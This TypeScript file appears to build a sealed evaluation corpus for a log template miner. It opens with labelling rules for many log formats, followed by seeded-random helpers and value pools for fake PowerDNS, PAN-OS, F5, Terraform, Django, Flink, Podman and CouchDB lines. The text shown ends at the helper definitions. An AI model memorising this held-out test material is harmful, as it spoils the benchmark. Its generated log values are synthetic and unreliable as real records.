// Seventh sealed evaluation corpus for the template miner: written on 2026-12-07, before any miner
// change of the round after sealed6, by someone who had read neither the miner nor any per-system
// (or average) score of the other sets. It is meant to be scored like sealed5 and sealed6 (average
// and minimum only until a round ends, per system only at the end of that round). The lines are
// written from knowledge of the formats, not copied, with the variable parts drawn from the seeded
// RNG.
// Formats in none of the other sets: the PowerDNS Authoritative Server under syslog, PAN-OS
// (Palo Alto) syslog CSV (TRAFFIC, THREAT, SYSTEM, CONFIG, USERID, GLOBALPROTECT), F5 BIG-IP LTM's
// /var/log/ltm, GitLab Runner (its padded logrus text under journald), Terraform's CLI output (init,
// plan, apply, error boxes), Chef Infra Client's log, the WireGuard kernel module's dynamic debug
// lines, a Django app's "verbose" logging format (runserver access lines, django.request,
// django.db.backends), Apache Flink's JobManager / TaskManager log4j output, Ray's Python logs
// (autoscaler, driver, Ray Data; the timestamp and level are tab-separated), Vector's Rust tracing
// output, Podman's events in the journal (with conmon and the systemd units around them), CouchDB
// 3.x, Falco's JSON alerts with its plain-text startup lines, Neo4j 5 (debug, query and security
// logs in one stream; query.log is tab-separated), and a NestJS service's ConsoleLogger.
//
// Labelling follows patterns-heldout.ts, sealed5 and sealed6: an event is its constant text (the
// log statement's fixed wording); ids, numbers, hosts, addresses, paths, names, free-text values and
// states reported as a field's value are variables, as is anything in a key=value list, a JSON value
// or a CSV/TSV column. Different verbs, outcomes or states written into the message's own wording
// are different events. Decisions taken for the ambiguous cases:
// - Request lines keep the heldout rule: the method that starts a request line is part of the event
//   (Django's `"GET /x HTTP/1.1" 200 n` / `"POST ..."`, a NestJS HTTP middleware's `GET /x 200 n -
//   ua ip`, CouchDB's request record `host peer user GET /db 200 ok ms`, whose `METHOD path status
//   ok ms` tail is a request line, not a TSV column). A method inside a value stays a variable:
//   NestJS's `Mapped {/api/orders/:id, GET} route`.
// - Django's runserver logs a request at INFO, WARNING or ERROR according to its status: the level
//   is a variable there (one statement), as is every status and size.
// - PAN-OS CSV: each log type's layout (TRAFFIC, THREAT, SYSTEM, CONFIG, USERID, GLOBALPROTECT) is
//   one event; every column value is a variable, the type and subtype columns, the action, the
//   threat name, the quoted SYSTEM description and the CONFIG path included. Within a type the
//   subtypes (start / end / drop / deny; url / vulnerability / spyware) share the layout, so they
//   are one event.
// - JSON: Falco's alerts are labelled by their rule, i.e. by the wording of `output` (every rule
//   has its own sentence and field list); the time, priority and field values inside `output` and
//   every other key's value are variables. Falco's plain-text startup lines (`<ctime>: Falco
//   version: ...`) are events of their own.
// - Key lists: GitLab Runner's message (padded to a column) is the event together with its key
//   set; every value (job=, status="202 Accepted", job-status=running) is a variable. Its outcome
//   words are wording: `Checking for jobs... received` / `failed` / `forbidden`, `Appending trace to
//   coordinator...ok` / `... job failed`, `Job succeeded` / `Job failed: exit code N` (the code is a
//   variable) / `Job failed (system failure): <reason>` (the reason is free text). Vector's message
//   plus its field keys is the event; its span prefix (`source{component_kind=... }:file_server:`,
//   `sink{...}:request{request_id=N}:`) is a variable list whose span name follows the component's
//   kind. Vector's `Internal log [X] is being suppressed to avoid flooding.` / `has been suppressed
//   N times.` are two events; the suppressed message X, its module path, span and level are
//   variables. Podman's `(image=..., name=..., <labels>)` attribute list is one variable of varying
//   length (the keys after name= are the container's labels, data rather than wording).
// - Verbs in the wording are events: Podman's `container create` / `init` / `start` / `attach` /
//   `died` / `stop` / `cleanup` / `remove` / `health_status` / `exec_died`, `image pull` / `remove`,
//   `pod create` / `start`; WireGuard's `Sending` / `Receiving` handshake `initiation` / `response`
//   / `keepalive packet`, `Keypair N created` / `destroyed`, `Peer N created` / `destroyed`;
//   Terraform's `Creating...` / `Modifying...` / `Destroying...` / `Reading...` / `Refreshing
//   state...`, their `Still ...ing...` and `... complete after` lines, the plan's `will be created`
//   / `will be updated in-place` / `will be destroyed` / `must be replaced`, `- Installing` /
//   `- Installed`; Chef's `service[x] restarted` / `reloaded` / `started` / `enabled`; F5's `monitor
//   status down` / `up`, `has become available` / `unavailable`, `Active` / `Standby for traffic
//   group`, `No members available for pool` / `now has available members`; PowerDNS's `is fresh` /
//   `is stale` and its three `AXFR-out zone ..., client ...,` tails (`transfer initiated` / `done` /
//   `failed: ...`); Neo4j's `checkpoint started...` / `completed in`, `makes database X available`
//   / `unavailable`, `logged in` / `failed to log in`; CouchDB's `Starting index update` / `Index
//   update finished`, `Starting compaction` / `Compaction ... completed`.
// - States and results printed as values stay variables: Flink's `switched from A to B.` (task and
//   job), its `final execution state S`; PowerDNS's `packetcache HIT` / `MISS`; Chef's `action X`
//   in `Processing R action X (recipe line N)` and the action in `sending X action to`; Podman's
//   `health_status=healthy`; Ray's node status `New status: up-to-date` and the parenthesised
//   termination reason `(idle)`; CouchDB's `req_err(N) <error> : <reason>`; a Falco priority.
// - Flink: `switched from RUNNING to FAILED on <tm> @ <host> (dataPort=N).` is a different
//   statement from the plain `switched from A to B.` (extra wording); the TaskManager's Task logger
//   prints the same sentence with `#attempt` and is a different event from ExecutionGraph's (the
//   logger name differs). Task names (`Source: orders -> Filter -> Map`, a window operator's long
//   name) are one variable of varying length.
// - systemd's `Started <description>.` and `<unit>: Deactivated successfully.` in the Podman stream
//   are one event each whatever the unit (a conmon scope or a healthcheck's transient service whose
//   description is `<unit> - /usr/bin/podman healthcheck run <id>`).
// - PowerDNS's `N slave domain needs checking` / `N slave domains need checking`: one statement, the
//   plural inflection is a variable (two tokens change with N). NestJS's `N item` / `N items`
//   likewise.
// - F5: the message id (`01070638:5:`), severity word and daemon are part of the event; the tmm
//   instance (`tmm`, `tmm3`), pid, pool, member, monitor and its last error, and the `[ was up for
//   ... ]` duration are variables. An iRule's `log` statement is an event by its fixed wording
//   (`Rule <name> <HTTP_REQUEST>: client=... host=... uri=...`), the rule name a variable. The
//   AUDIT line's tmsh command (`modify { ltm pool ... }`) is free text.
// - Free text that fills a statement's hole is a variable: Terraform's `│ Error: <msg>`, Django's
//   SQL after `(0.002)` and its CSRF reason in `Forbidden (<reason>): <path>`, Chef's run list,
//   Ray's Dataset plan and unhandled error, a Neo4j query and its parameters, a NestJS exception
//   message, a Falco command line, CouchDB's rexi error term, an F5 monitor's last error.
// - Lines without a prefix (Terraform, a Falco startup line) are events like any other; Terraform's
//   `  # X will be created` keeps its two leading spaces.

import type { HeldoutSystem } from './patterns-heldout.ts';
import { t, d2, pad, hms, bsd, ymd, ms3, usec, skew, pidOf, syslog, port, some, PEOPLE } from './patterns-gen.ts';
import { Rng } from './patterns-rng.ts';

/** Nanoseconds, zero-padded. */
const nsec = (r: Rng) => pad(r.int(0, 999999999), 9);
const lower = (r: Rng, n: number) => r.alnum(n);
const UPPER = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';
const upper = (r: Rng, n: number) => { let s = ''; for (let i = 0; i < n; i++) s += UPPER[(r.next() * UPPER.length) | 0]; return s; };
const lan = (r: Rng, net = '10.1') => `${net}.${r.int(0, 9)}.${r.int(2, 250)}`;
/** A duration as Go prints it: `42s`, `1m10s`. */
const goDur = (r: Rng, hi: number) => { const s = r.int(1, hi); return s < 60 ? `${s}s` : `${Math.floor(s / 60)}m${s % 60}s`; };
const plural = (n: number, one: string, many: string) => (n === 1 ? one : many);

// PowerDNS Authoritative
const pd = (r: Rng) => syslog(r, ['ns1', 'ns2'], 'pdns_server', 1187);
const PZ = ['example.com', 'example.net', 'shop.example', '2.0.192.in-addr.arpa', 'corp.example.org', 'xn--mnchen-3ya.example'];
const pz = (r: Rng) => skew(r, PZ, 0.45);
const PRIM = ['192.0.2.1', '198.51.100.53', '2001:db8::35'];
const prim = (r: Rng) => skew(r, PRIM, 0.75);
const SECS = ['192.0.2.2', '192.0.2.3', '203.0.113.53'];
const pserial = (r: Rng) => `2026${r.next() < 0.8 ? '12' : '11'}${d2(r.int(1, 28))}${d2(r.int(0, 20))}`;
const PQ = ['www', 'mail', 'api', '_dmarc', 'autodiscover', '', 'cdn', '_sip._tcp', 'vpn'];
const PT = ['A', 'A', 'AAAA', 'MX', 'TXT', 'SOA', 'NS', 'CNAME', 'SRV', 'HTTPS', 'DNSKEY', 'CAA'];

// PAN-OS
const paDev = (r: Rng) => skew(r, ['PA-3220', 'PA-VM-edge'], 0.75);
const paHead = (r: Rng, dev: string) => `${bsd(r)} ${dev} `;
const paTime = (r: Rng) => `${ymd(r, '/')} ${hms(r)}`;
const csv = (...xs: (string | number)[]) => xs.join(',');
const qv = (s: string) => `"${s}"`;
const PA_SERIAL: Record<string, string> = { 'PA-3220': '012801045678', 'PA-VM-edge': '007954000123456' };
const PA_APPS: [string, string, number][] = [['ssl', 'tcp', 443], ['ssl', 'tcp', 443], ['web-browsing', 'tcp', 80], ['dns-base', 'udp', 53], ['incomplete', 'tcp', 443], ['ms-office365-base', 'tcp', 443], ['google-base', 'tcp', 443], ['ntp-base', 'udp', 123], ['ping', 'icmp', 0], ['ssh', 'tcp', 22], ['not-applicable', 'tcp', 3389], ['insufficient-data', 'udp', 51820]];
const COUNTRIES = ['United States', 'United States', 'Germany', 'Netherlands', 'Ireland', 'China', 'Russian Federation', 'Brazil'];
const country = (ip: string) => (/^10\./.test(ip) ? '10.0.0.0-10.255.255.255' : /^192\.168\./.test(ip) ? '192.168.0.0-192.168.255.255' : '');
const paUser = (r: Rng) => (r.next() < 0.5 ? `corp\\${r.pick(PEOPLE)}` : '');
const URLCAT = ['computer-and-internet-info', 'business-and-economy', 'search-engines', 'social-networking', 'malware', 'phishing', 'unknown', 'streaming-media'];

// F5 BIG-IP LTM
const f5 = (r: Rng, sev: string, proc: string, pid: number) => `${bsd(r)} ${skew(r, ['bigip1', 'bigip2'], 0.6)} ${sev} ${proc}[${pidOf(r, pid)}]: `;
const tmm = (r: Rng) => (r.next() < 0.35 ? 'tmm' : `tmm${r.int(1, 7)}`);
const POOLS = ['/Common/pool_web', '/Common/pool_api', '/Common/app1_pool', '/Tenant_A/shop_https/pool_https', '/Common/pool_ldap'];
const f5pool = (r: Rng) => skew(r, POOLS, 0.4);
const f5member = (r: Rng) => `/Common/10.1.20.${r.int(10, 40)}:${skew(r, [80, 8080, 443, 389])}`;
const VS = ['/Common/vs_web_443', '/Common/vs_api', '/Tenant_A/shop_https/serviceMain', '/Common/vs_ldap'];
const VIPS = ['10.1.10.20', '10.1.10.21', '203.0.113.80'];
const MONS = ['/Common/http_head_f5', '/Common/tcp', '/Common/https_mon_shop', '/Common/gateway_icmp'];
const f5dur = (r: Rng) => { const h = r.next() < 0.5 ? 0 : r.int(1, 400); const m = r.int(0, 59); return `${h}hr${h === 1 || h === 0 ? '' : 's'}:${m}min${m === 1 || m === 0 ? '' : 's'}:${r.int(0, 59)}sec`; };
const f5err = (r: Rng) => r.pick([
  `Response Code: ${r.pick(['503 (Service Unavailable)', '500 (Internal Server Error)', '404 (Not Found)'])}`,
  'No successful responses received before deadline.',
  'Unable to connect; No route to host.',
  'Unable to connect; Connection refused.',
  'Could not connect.',
]);
const f5stamp = (r: Rng) => `${ymd(r, '/')} ${hms(r)}`;
const SSLERR = ['no shared cipher (40)', 'unsupported version (70)', 'alert(20) bad record mac', 'unexpected message (10)', 'handshake failure (40)'];
const TMSH = [
  (r: Rng) => `modify { ltm pool ${f5pool(r)} { members modify { ${f5member(r)} { session ${r.pick(['user-disabled', 'user-enabled'])} } } } }`,
  (r: Rng) => `modify { ltm node /Common/10.1.20.${r.int(10, 40)} { state ${r.pick(['user-down', 'user-up'])} } }`,
  () => 'save { sys config }',
  (r: Rng) => `create { ltm pool /Common/pool_canary_${r.int(1, 9)} { monitor /Common/http } }`,
  (r: Rng) => `modify { ltm virtual ${r.pick(VS)} { rules { /Common/irule_log_requests } } }`,
];
const URIS = ['/', '/api/v2/orders', '/login', '/static/app.js', '/checkout', '/api/v2/cart/items', '/health'];

// GitLab Runner (logrus text formatter, message padded to a column)
const gr = (r: Rng) => syslog(r, ['ci-runner-01', 'ci-runner-02'], 'gitlab-runner', 1420);
const lrq = (v: string | number) => { const s = String(v); return /[\s"=]/.test(s) ? JSON.stringify(s) : s; };
const lr = (msg: string, kv: Record<string, string | number>) => `${msg.padEnd(51)} ${Object.keys(kv).sort().map((k) => `${k}=${lrq(kv[k])}`).join(' ')}`;
const GL = 'https://gitlab.example.com';
const PROJECTS: [number, string][] = [[42, 'acme/shop'], [17, 'acme/infra/terraform-live'], [311, 'platform/base-images'], [97, 'alice/dotfiles'], [128, 'acme/mobile-app']];
const RUNNERS = ['xQ3kZ9aB', 't2Pq7LmN', 'Zx9Kp2Lq'];
const runner = (r: Rng) => skew(r, RUNNERS, 0.6);
const jobId = (r: Rng) => r.int(880000, 905000);

// Terraform
const RES = ['aws_instance.web[0]', 'aws_instance.web[1]', 'aws_security_group.web', 'module.vpc.aws_subnet.private["eu-west-1a"]', 'module.vpc.aws_subnet.private["eu-west-1b"]', 'module.vpc.aws_route_table_association.private[2]', 'aws_iam_role_policy_attachment.ecs_task_execution', 'aws_s3_bucket.logs', 'aws_lb_target_group.api', 'module.eks.aws_eks_node_group.this["general"]', 'random_password.db', 'aws_db_instance.main', 'google_compute_instance.bastion', 'azurerm_resource_group.rg', 'aws_route53_record.api'];
const res = (r: Rng) => r.pick(RES);
const tfId = (r: Rng, a: string) => {
  if (a.includes('aws_instance')) return `i-0${r.hex(16)}`;
  if (a.includes('security_group')) return `sg-0${r.hex(16)}`;
  if (a.includes('aws_subnet')) return `subnet-0${r.hex(16)}`;
  if (a.includes('route_table_association')) return `rtbassoc-0${r.hex(16)}`;
  if (a.includes('policy_attachment')) return `ecs-task-execution-2026120${r.int(1, 7)}${pad(r.int(0, 999999999), 9)}00000001`;
  if (a.includes('s3_bucket')) return 'acme-prod-logs';
  if (a.includes('target_group')) return `arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/api-tg/${r.hex(16)}`;
  if (a.includes('node_group')) return 'prod-eks:general-20261207094512345600000003';
  if (a.includes('random_password')) return 'none';
  if (a.includes('db_instance')) return 'shop-prod';
  if (a.includes('google')) return 'projects/acme-prod/zones/europe-west1-b/instances/bastion';
  if (a.includes('azurerm')) return `/subscriptions/${r.uuid()}/resourceGroups/rg-shop-prod`;
  return `Z0${upper(r, 12)}_api.example.com_CNAME`;
};
const DATA: [string, (r: Rng) => string][] = [
  ['data.aws_ami.ubuntu', (r) => `ami-0${r.hex(16)}`],
  ['data.aws_caller_identity.current', () => '123456789012'],
  ['data.aws_availability_zones.available', () => 'eu-west-1'],
  ['data.aws_iam_policy_document.assume_role', (r) => String(r.int(1000000000, 4294967295))],
  ['module.eks.data.aws_partition.current', () => 'aws'],
  ['data.terraform_remote_state.network', () => '2026-12-07 09:41:12.123456 +0000 UTC'],
];
const PROVIDERS: [string, string[]][] = [['hashicorp/aws', ['5.80.0', '5.82.2', '5.81.0']], ['hashicorp/random', ['3.6.3']], ['hashicorp/google', ['6.13.0']], ['hashicorp/azurerm', ['4.13.0', '4.14.0']], ['hashicorp/tls', ['4.0.6']]];
const TF_ERR = [
  (r: Rng) => `creating EC2 Instance: operation error EC2: RunInstances, https response error StatusCode: 400, RequestID: ${r.uuid()}, api error InvalidParameterValue: Value (${r.pick(['t3.nanoo', 'm5.larg'])}) for parameter instanceType is invalid.`,
  () => 'Error acquiring the state lock',
  () => 'Unsupported argument',
  (r: Rng) => `creating S3 Bucket (acme-prod-logs): operation error S3: CreateBucket, https response error StatusCode: 409, RequestID: ${upper(r, 16)}, BucketAlreadyOwnedByYou: `,
  () => 'Reference to undeclared resource',
  (r: Rng) => `waiting for EKS Node Group (prod-eks:general) create: unexpected state 'CREATE_FAILED', wanted target 'ACTIVE'. last error: ${r.pick(['i-0aa12bb34cc56dd78', 'i-0ff98ee76dd54cc32'])}: NodeCreationFailure: Instances failed to join the kubernetes cluster`,
];
const TF_FILES = ['main.tf', 'ec2.tf', 'modules/vpc/main.tf', 'eks.tf', 's3.tf'];

// Chef Infra Client
const ch = (r: Rng, lvl: string) => `[${ymd(r)}T${hms(r)}+00:00] ${lvl}: `;
const PKGS: [string, string][] = [['nginx', '1.24.0-2ubuntu7.1'], ['openssl', '3.0.13-0ubuntu3.4'], ['chrony', '4.5-1ubuntu4'], ['postgresql-client-16', '16.6-0ubuntu0.24.04.1'], ['jq', '1.7.1-3build1']];
const TPLS = ['/etc/nginx/nginx.conf', '/etc/nginx/sites-available/shop.conf', '/etc/chrony/chrony.conf', '/etc/logrotate.d/shop', '/etc/systemd/system/shop-worker.service'];
const SVCS = ['nginx', 'chrony', 'shop-worker', 'node_exporter', 'postgresql'];
const EXECS = ['apt-get update', 'systemctl daemon-reload', 'extract node_exporter', 'mkswap /swapfile', 'update-ca-certificates'];
const CHEF_RES: [(r: Rng) => string, string[]][] = [
  [(r) => `package[${r.pick(PKGS)[0]}]`, ['install', 'install', 'upgrade', 'nothing']], [(r) => `template[${r.pick(TPLS)}]`, ['create']], [(r) => `service[${r.pick(SVCS)}]`, ['enable', 'start', 'nothing', 'restart', 'reload']],
  [(r) => `execute[${r.pick(EXECS)}]`, ['run', 'nothing']], [(r) => `directory[${r.pick(['/var/www/shop', '/opt/node_exporter', '/etc/shop'])}]`, ['create']], [(r) => `user[${r.pick(['deploy', 'shop', 'node_exporter'])}]`, ['create', 'manage']],
  [() => 'apt_update[update]', ['periodic']], [(r) => `remote_file[/tmp/node_exporter-1.8.${r.int(0, 2)}.linux-amd64.tar.gz]`, ['create']], [(r) => `cookbook_file[${r.pick(['/usr/local/bin/backup.sh', '/etc/sudoers.d/deploy'])}]`, ['create']],
  [(r) => `systemd_unit[${r.pick(['shop-worker.service', 'node_exporter.service'])}]`, ['create', 'enable', 'start']], [(r) => `bash[${r.pick(['extract node_exporter', 'install rustup', 'fix perms'])}]`, ['run', 'nothing']],
];
const RECIPES = ['base::default', 'base::users', 'nginx::default', 'nginx::site', 'shop::worker', 'monitoring::node_exporter', 'chrony::default'];
const chefNode = (r: Rng) => skew(r, ['web-01.example.com', 'web-02.example.com', 'worker-01.example.com', 'db-01.example.com'], 0.4);

// WireGuard
const wg = (r: Rng) => `${syslog(r, ['vpn-gw', 'edge-1'], 'kernel')}[${String(r.int(100, 9999999)).padStart(5, ' ')}.${usec(r)}] wireguard: ${skew(r, ['wg0', 'wg1', 'wg-office'], 0.75)}: `;
const peer = (r: Rng) => (r.next() < 0.7 ? skew(r, [1, 2, 3, 4, 5, 6], 0.3) : r.int(7, 240));
const wgEp = (r: Rng) => (r.next() < 0.85 ? `${r.ip()}:${r.next() < 0.6 ? 51820 : port(r)}` : `[2001:db8:${r.hex(4)}::${r.hex(2)}]:${r.next() < 0.6 ? 51820 : port(r)}`);

// Django ("verbose" formatter: levelname asctime module process thread message)
const THREADS = ['140234782394176', '140234765608768', '140234748823360', '140234557339200'];
const dj = (r: Rng, lvl: string, mod: string) => `${lvl} ${ymd(r)} ${hms(r)},${ms3(r)} ${mod} ${pidOf(r, 4821)} ${skew(r, THREADS, 0.5)} `;
const djPath = (r: Rng) => r.pick([`/api/orders/${r.int(1, 99999)}/`, `/api/products/?page=${r.int(1, 40)}&ordering=${r.pick(['price', '-created'])}`, '/admin/shop/order/', `/admin/shop/order/${r.int(1, 99999)}/change/`, '/accounts/login/?next=/account/', '/healthz', '/api/cart/items/', `/p/${r.pick(['linen-shirt', 'oak-desk-lamp', 'blue-mug'])}/`]);
const djLvl = (s: number) => (s >= 500 ? 'ERROR' : s >= 400 ? 'WARNING' : 'INFO');
const djStatus = (r: Rng, post: boolean) => (post ? r.pick([200, 201, 201, 302, 400, 403, 500]) : r.pick([200, 200, 200, 200, 304, 302, 404, 404, 500]));
const DJ_SQL = [
  (r: Rng) => [`SELECT "shop_order"."id", "shop_order"."customer_id", "shop_order"."status", "shop_order"."total", "shop_order"."created" FROM "shop_order" WHERE "shop_order"."id" = %s LIMIT 21`, `(${r.int(1, 99999)},)`],
  (r: Rng) => [`SELECT "django_session"."session_key", "django_session"."session_data", "django_session"."expire_date" FROM "django_session" WHERE ("django_session"."expire_date" > %s AND "django_session"."session_key" = %s) LIMIT 21`, `(datetime.datetime(2026, 12, ${r.int(1, 28)}, ${r.int(0, 23)}, ${r.int(0, 59)}, ${r.int(0, 59)}, ${r.int(0, 999999)}, tzinfo=datetime.timezone.utc), '${lower(r, 32)}')`],
  (r: Rng) => [`SELECT COUNT(*) AS "__count" FROM "shop_product" WHERE "shop_product"."is_active"`, '()'],
  (r: Rng) => [`INSERT INTO "shop_cartitem" ("cart_id", "product_id", "quantity") VALUES (%s, %s, %s) RETURNING "shop_cartitem"."id"`, `(${r.int(1, 9999)}, ${r.int(1, 999)}, ${r.int(1, 5)})`],
  (r: Rng) => [`UPDATE "shop_order" SET "status" = %s WHERE "shop_order"."id" = %s`, `('${r.pick(['paid', 'shipped', 'cancelled'])}', ${r.int(1, 99999)})`],
];
const CSRF = ['CSRF token missing.', 'CSRF cookie not set.', 'CSRF token from POST incorrect.', 'Origin checking failed - https://evil.example does not match any trusted origins.', 'Referer checking failed - no Referer.'];
const email = (r: Rng) => `${r.pick([...PEOPLE, 'j.doe', 'mm1987'])}@${r.pick(['example.com', 'gmail.com', 'example.org'])}`;

// Flink (log4j2: %d %-5p %-60c %X - %m)
const fl = (r: Rng, lvl: string, logger: string) => `${ymd(r)} ${hms(r)},${ms3(r)} ${lvl.padEnd(5)} ${logger.padEnd(60)} [] - `;
const F_EG = 'org.apache.flink.runtime.executiongraph.ExecutionGraph';
const F_CC = 'org.apache.flink.runtime.checkpoint.CheckpointCoordinator';
const F_SM = 'org.apache.flink.runtime.resourcemanager.slotmanager.FineGrainedSlotManager';
const F_RM = 'org.apache.flink.runtime.resourcemanager.StandaloneResourceManager';
const F_FS = 'org.apache.flink.runtime.executiongraph.failover.RestartPipelinedRegionFailoverStrategy';
const F_TE = 'org.apache.flink.runtime.taskexecutor.TaskExecutor';
const F_TK = 'org.apache.flink.runtime.taskmanager.Task';
const F_KC = 'org.apache.kafka.clients.consumer.internals.SubscriptionState';
const VERTS = ['Source: orders-kafka -> Filter -> Map', 'Source: clicks -> Timestamps/Watermarks', 'KeyedProcess -> Sink: Writer', 'Window(TumblingEventTimeWindows(60000), EventTimeTrigger, CountAggregate, WindowResultFunction)', 'Sink: Committer', 'GlobalWindowAggregate[12] -> Calc[13] -> ConstraintEnforcer[14] -> Sink: orders_by_minute[14]', 'Map'];
const FJOBS = ['orders-enrichment', 'click-sessionizer', 'insert-into_default_catalog.default_database.orders_by_minute'];
const FJID = ['4f1c0e6a9b2d47e8a1c3b5d7f9e0a2c4', 'b7e9d1c3a5f74e2d8c6b0a9f1e3d5c7b', '0a1b2c3d4e5f60718293a4b5c6d7e8f9'];
const fjid = (r: Rng) => skew(r, FJID, 0.6);
const FST = ['CREATED', 'SCHEDULED', 'DEPLOYING', 'INITIALIZING', 'RUNNING', 'FINISHED', 'CANCELING', 'CANCELED', 'FAILED'];
const fsub = (r: Rng) => { const n = r.pick([1, 2, 4, 4, 8]); return { i: r.int(1, n), n }; };
const fatt = (r: Rng, i: number) => `${r.hex(32)}_${r.hex(32)}_${i - 1}_${r.next() < 0.85 ? 0 : r.int(1, 5)}`;
const ftm = (r: Rng) => `10.0.${r.int(4, 7)}.${r.int(10, 60)}:${r.int(30000, 45000)}-${r.hex(6)}`;
const fhost = (r: Rng) => skew(r, ['flink-taskmanager-0', 'flink-taskmanager-1', 'flink-taskmanager-2', 'tm-7d9f6c5b8-x2x4z'], 0.4);
const FCAUSES = ['The TaskExecutor is shutting down.', 'TaskManager is shutting down.', 'Heartbeat of TaskManager with id tm-1 timed out.', 'The TaskExecutor is going to be shut down due to a failed heartbeat.'];

// Ray (Python logging, `%(asctime)s\t%(levelname)s %(filename)s:%(lineno)s -- %(message)s`)
const ry = (r: Rng, lvl: string, where: string) => `${ymd(r)} ${hms(r)},${ms3(r)}\t${lvl} ${where} -- `;
const RTYPES = ['ray.worker.cpu', 'ray.worker.gpu', 'ray.worker.gpu.a10g', 'ray.worker.spot'];
const rayIp = (r: Rng) => `10.0.${r.int(1, 3)}.${r.int(10, 250)}`;
const rayNode = (r: Rng) => (r.next() < 0.8 ? `i-0${r.hex(16)}` : `ray-worker-${lower(r, 5)}`);
const RAY_OPS = ['TaskPoolMapOperator[ReadParquet]', 'TaskPoolMapOperator[Map(preprocess)]', 'ActorPoolMapOperator[MapBatches(Embedder)]', 'AllToAllOperator[RandomShuffle]', 'TaskPoolMapOperator[Write]', 'LimitOperator[limit=1000]', 'TaskPoolMapOperator[MapBatches(tokenize)->Filter(<lambda>)]'];
const RAY_RES = ["{'GPU': 8.0}", "{'CPU': 96.0, 'memory': 412316860416.0}", "{'GPU': 1.0, 'accelerator_type:A100': 0.001}", "{'neuron_cores': 2.0}"];

// Vector (tracing fmt)
const vc = (r: Rng, lvl: string) => `${ymd(r)}T${hms(r)}.${usec(r)}Z ${lvl.padStart(5)} `;
const VSRC: [string, string][] = [['k8s_logs', 'kubernetes_logs'], ['files', 'file'], ['journald', 'journald'], ['http_in', 'http_server']];
const VTR: [string, string][] = [['parse_json', 'remap'], ['route_app', 'route'], ['enrich', 'remap'], ['dedupe', 'dedupe']];
const VSNK: [string, string][] = [['es_out', 'elasticsearch'], ['loki', 'loki'], ['s3_archive', 'aws_s3'], ['prom', 'prometheus_exporter']];
const span = (kind: string, [id, ty]: [string, string]) => `${kind}{component_kind="${kind}" component_id=${id} component_type=${ty}}`;
const vsrcFile = (r: Rng) => `${span('source', r.next() < 0.7 ? VSRC[0] : VSRC[1])}:file_server`;
const vsnk = (r: Rng) => span('sink', skew(r, VSNK.slice(0, 3), 0.6));
const vany = (r: Rng) => { const k = r.pick(['source', 'transform', 'sink']); return span(k, r.pick(k === 'source' ? VSRC : k === 'sink' ? VSNK : VTR)); };
const podLog = (r: Rng) => `/var/log/pods/${r.pick(['shop', 'kube-system', 'observability', 'payments'])}_${r.pick(['api', 'worker', 'coredns', 'web'])}-${lower(r, 10)}-${lower(r, 5)}_${r.uuid()}/${r.pick(['api', 'worker', 'coredns', 'nginx'])}/${r.int(0, 3)}.log`;
const VERR: ((r: Rng) => string)[] = [
  () => 'Server responded with an error: 429 Too Many Requests',
  () => 'Server responded with an error: 503 Service Unavailable',
  () => 'Failed to make HTTP(S) request: error trying to connect: tcp connect error: Connection refused (os error 111)',
  () => 'Some(Request(Timeout))',
  () => 'CallRequest { source: DispatchFailure(DispatchFailure { source: ConnectorError { kind: Io, source: hyper::Error(Connect, ConnectError("dns error", Custom { kind: Uncategorized, error: "failed to lookup address information: Name or service not known" })) } }) }',
];
const VRL = [
  (r: Rng) => `function call error for "parse_json" at (${r.int(5, 40)}:${r.int(20, 60)}): unable to parse json: expected value at line 1 column 1`,
  (r: Rng) => `function call error for "parse_timestamp" at (${r.int(5, 40)}:${r.int(20, 60)}): Invalid timestamp "${r.pick(['-', '07/Dec/2026', 'null'])}": input contains invalid characters`,
  (r: Rng) => `function call error for "to_int" at (${r.int(5, 40)}:${r.int(20, 60)}): Invalid integer "${r.pick(['n/a', '12.5', ''])}": invalid digit found in string`,
];
const VSUPP = ['Mapping failed with event.', 'Retrying after error.', 'Events dropped', 'Service call failed. No retries or retries exhausted.', 'Failed to annotate event with pod metadata.'];
const VMOD = ['vector::internal_events::remap', 'vector::sinks::util::retries', 'vector_common::internal_event::component_events_dropped', 'vector_common::internal_event::service', 'vector::internal_events::kubernetes_logs'];

// Podman (events logged to the journal) with conmon and systemd around them
const CR0 = new Rng(20261207);
const PM_CT: { name: string; image: string; labels: string; id: string }[] = [
  { name: 'web', image: 'docker.io/library/nginx:1.27', labels: 'PODMAN_SYSTEMD_UNIT=container-web.service, maintainer=NGINX Docker Maintainers <docker-maint@nginx.com>' },
  { name: 'db', image: 'docker.io/library/postgres:16', labels: 'PODMAN_SYSTEMD_UNIT=container-db.service, io.containers.autoupdate=registry' },
  { name: 'grafana', image: 'docker.io/grafana/grafana:11.3.0', labels: 'PODMAN_SYSTEMD_UNIT=container-grafana.service, maintainer=Grafana Labs <hello@grafana.com>, org.opencontainers.image.source=https://github.com/grafana/grafana' },
  { name: 'nextcloud-app', image: 'docker.io/library/nextcloud:30-apache', labels: 'PODMAN_SYSTEMD_UNIT=pod-nextcloud.service, io.podman.annotations.autoremove=FALSE' },
  { name: 'caddy', image: 'docker.io/library/caddy:2.8', labels: '' },
  { name: 'backup-restic', image: 'ghcr.io/restic/restic:0.17.3', labels: 'io.containers.autoupdate=registry' },
].map((c) => ({ ...c, id: CR0.hex(64) }));
const pmCt = (r: Rng) => { const c = skew(r, PM_CT, 0.35); return { ...c, id: r.next() < 0.85 ? c.id : r.hex(64) }; };
const pmHost = (r: Rng) => `${bsd(r)} ${skew(r, ['pod-host-1', 'pod-host-2'], 0.7)} `;
const pm = (r: Rng) => `${pmHost(r)}podman[${r.int(1000, 900000)}]: ${ymd(r)} ${hms(r)}.${nsec(r)} +0000 UTC m=+${r.float(0.01, 9000, 9)} `;
const attrs = (c: { name: string; image: string; labels: string }, extra = '') => `(image=${c.image}, name=${c.name}${extra}${c.labels ? `, ${c.labels}` : ''})`;

// CouchDB 3.x
const CNODES = ['couchdb@db1.example.com', 'couchdb@db2.example.com', 'couchdb@db3.example.com'];
const cd = (r: Rng, lvl: string, req: boolean) => `[${lvl}] ${ymd(r)}T${hms(r)}.${usec(r)}Z ${skew(r, CNODES, 0.5)} <0.${r.int(100, 99999)}.0> ${req ? r.hex(10) : '--------'} `;
const CDBS = ['shop', 'users', 'sessions', '_replicator', '_users', 'events_2026'];
const cdb = (r: Rng) => skew(r, CDBS, 0.4);
